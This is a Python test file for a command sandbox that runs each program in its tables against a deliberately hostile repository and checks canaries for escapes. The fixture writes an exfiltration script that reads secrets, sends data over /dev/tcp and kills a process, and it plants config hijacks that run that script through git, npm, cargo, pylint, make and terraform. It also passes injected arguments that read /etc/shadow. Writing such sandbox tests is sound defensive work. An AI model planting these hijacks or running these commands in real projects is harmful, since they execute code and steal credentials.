"""Every program of the tables, installed here, run for real with hostile words in a hostile repository.

The tables say which programs only read. Here that is not believed: each entry is run under the rules that the policy
would make for it, with words that read, write, run and send as far as the program can. Canaries show what got out. A
new entry of the tables is tried the day it is added; a program that is not installed is skipped, and named as such.
"""

import asyncio
import os
import shutil
from collections.abc import Iterator

import pytest
from tests.conftest import lacking

from tarmac.cli.breakout import SECRET, Canaries, plant
from tarmac.policy.files import Files
from tarmac.policy.places import Ground
from tarmac.policy.plan import environment, search_path
from tarmac.policy.plan_confinement import confine
from tarmac.policy.programs.program import Trait, grammars, registry
from tarmac.policy.verdict import Plan, Stage, Step, Unproven
from tarmac.terminals import run_plan
from tarmac.terminals.process.confinement import Means, means

pytestmark = [pytest.mark.programs, pytest.mark.slow]

ENTRIES: dict[str, list[tuple[str, ...]]] = {}
for _name in grammars():
    ENTRIES.setdefault(_name.split()[0], []).append(tuple(_name.split()))
for _name, _program in registry().items():
    if Trait.ANSWERS in _program.traits:
        ENTRIES.setdefault(_name, [(_name,)])
MOST_ENTRIES = 12  # of one program, evenly chosen: git and docker have dozens


@pytest.fixture(scope="module")
def canaries() -> Iterator[Canaries]:
    if means() is not Means.LANDLOCK:
        lacking("this machine has no Landlock")
    with plant() as planted:
        make_hostile(planted)
        yield planted


def make_hostile(canaries: Canaries) -> None:
    """A repository around the programs whose every file wants something of them."""
    here, port = canaries.workspace, canaries.places["tcp"]
    evil = here / "evil.sh"
    steal = f"cat {canaries.places['key']} {canaries.places['outside']} {canaries.places['env']}"
    send = f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo stolen >&3"
    change = f"echo changed >> {canaries.places['inside']}; touch {here}/pwned {canaries.root}/pwned"
    evil.write_text(f"#!/bin/bash\n{steal}\n{change}\n{send}\nkill -9 {canaries.places['victim']}\n")
    evil.chmod(0o755)
    files = {
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/config": (
            f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {evil}\n\tpager = {evil}\n\thooksPath = {here}\n"
            f'\tsshCommand = {evil}\n[diff]\n\texternal = {evil}\n[filter "x"]\n\tclean = {evil}\n\tsmudge = {evil}\n'
            f'[diff "x"]\n\ttextconv = {evil}\n\tcommand = {evil}\n[alias]\n\tx = !{evil}\n[gpg]\n\tprogram = {evil}\n'
        ),
        ".gitattributes": "* filter=x diff=x\n",
        "Makefile": f"all:\n\t{evil}\n$(shell {evil})\n",
        "package.json": f'{{"name": "x", "version": "1.0.0", "scripts": {{"preinstall": "{evil}"}}}}',
        ".npmrc": f"proxy=http://127.0.0.1:{port}\nregistry=http://127.0.0.1:{port}/\nscript-shell={evil}\n",
        ".yarnrc.yml": f"yarnPath: {evil}\n",
        "conftest.py": f"import os; os.system('{evil}')\n",
        "sitecustomize.py": f"import os; os.system('{evil}')\n",
        "setup.py": f"import os; os.system('{evil}')\n",
        "noxfile.py": f"import os; os.system('{evil}')\n",
        "toxfile.py": f"import os; os.system('{evil}')\n",
        ".pylintrc": f"[MAIN]\ninit-hook=__import__('os').system('{evil}')\n",
        ".cargo/config.toml": f'[build]\nrustc = "{evil}"\n[alias]\nx = "run"\n',
        "rust-toolchain": f"{here}\n",
        "Vagrantfile": f"`{evil}`\n",
        "Gemfile": f"`{evil}`\n",
        ".ripgreprc": f"--pre={evil}\n",
        "docker-compose.yml": f"services:\n  x:\n    image: 127.0.0.1:{port}/x\n    env_file: .env\n",
        "ansible.cfg": f"[defaults]\ninventory = {evil}\n",
        "main.tf": f'data "external" "x" {{ program = ["{evil}"] }}\n',
        "pom.xml": f"<project><url>http://127.0.0.1:{port}/</url></project>",
        "build.gradle": f"'{evil}'.execute()\n",
        "a.sed": "1e id\n",
        "x;id;.txt": "x\n",
        "-o": "x\n",
        "@x": f"--output={here}/pwned\n",
    }
    for name, text in files.items():
        (here / name).parent.mkdir(parents=True, exist_ok=True)
        (here / name).write_text(text)
    for folder in (".git/objects", ".git/refs"):
        (here / folder).mkdir()
    canaries.note()


def hostile(canaries: Canaries) -> list[list[str]]:
    """Words that read what is closed, write, run, send and end, in the ways that options have."""
    places, here = canaries.places, str(canaries.workspace)
    evil, new, inside = f"{here}/evil.sh", f"{here}/pwned", places["inside"]
    return [
        [],
        ["--version"],
        [places["outside"], places["key"], places["env"], places["ignored"], places["link"], "/etc/shadow"],
        ["-r", "-a", here, str(canaries.root)],
        ["-f", places["key"], "-C", str(canaries.root), f"--file={places['outside']}", f"--config={places['env']}"],
        ["-o", new, f"--output={new}", inside],
        ["-i", inside, new],
        [inside, new],
        ["-w", new, "-T", here, f"--log={new}", f"--log-file={new}", inside],
        ["-exec", evil, ";"],
        [f"--pager={evil}", f"--exec={evil}", f"--pre={evil}", f"--compress-program={evil}", f"--ext-diff={evil}", "x"],
        ["-c", f"core.pager={evil}", "-e", f"BEGIN {{ system('{evil}') }}", inside],
        ["-e", f"1e {evil}", inside],
        [f'BEGIN {{ system("{evil}") }}', inside],
        ["-delete", here],
        ["-9", places["victim"]],
        [f"http://127.0.0.1:{places['tcp']}/", f"127.0.0.1:{places['tcp']}", f"--url=http://127.0.0.1:{places['tcp']}"],
        ["@x", "-o"],
    ]


@pytest.mark.parametrize("program", sorted(ENTRIES))
async def test_no_program_of_the_tables_gets_out(canaries: Canaries, program: str) -> None:
    """P2: nothing changes, nothing arrives, no secret is read, whatever the words are."""
    here = canaries.workspace
    path = ":".join(search_path(os.environ.get("PATH", ""), workspace=here))
    if shutil.which(program, path=path) is None:
        pytest.skip(f"{program} is not installed: not tried")
    env = environment(dict(os.environ), workspace=here)
    lines: list[tuple[str, ...]] = []
    entries = ENTRIES[program]
    chosen = entries[:: max(1, len(entries) // MOST_ENTRIES)]
    variants = hostile(canaries)
    for number, entry in enumerate(chosen):
        # Each entry is tried with some of the words, a program with few entries with all of them.
        some = variants[number % 4 :: 4] if len(chosen) > 3 else variants
        lines += [(*entry, *words) for words in some]
    at_once = asyncio.Semaphore(4)

    async def attempt(line: tuple[str, ...]) -> None:
        step = Step((Stage(line),), cwd=here)
        try:
            rules = confine((step,), Ground.of(here, here), Files())
        except Unproven:
            return
        plan = Plan(here, (step,), seconds=2, most_bytes=1 << 18, confinement=rules)
        async with at_once:
            result = await run_plan(plan, command=" ".join(line), environment=env)
        assert SECRET not in result.output, line
        assert "root:$" not in result.output and "root:*:" not in result.output, line

    await asyncio.gather(*map(attempt, lines))
    assert canaries.damage() == [], lines


def test_every_program_of_the_tables_is_tried_or_named() -> None:
    """P2: the tables are read as they are, so that a new entry is in here."""
    assert {name.split()[0] for name in grammars()} <= ENTRIES.keys()
    assert len(ENTRIES) > 300
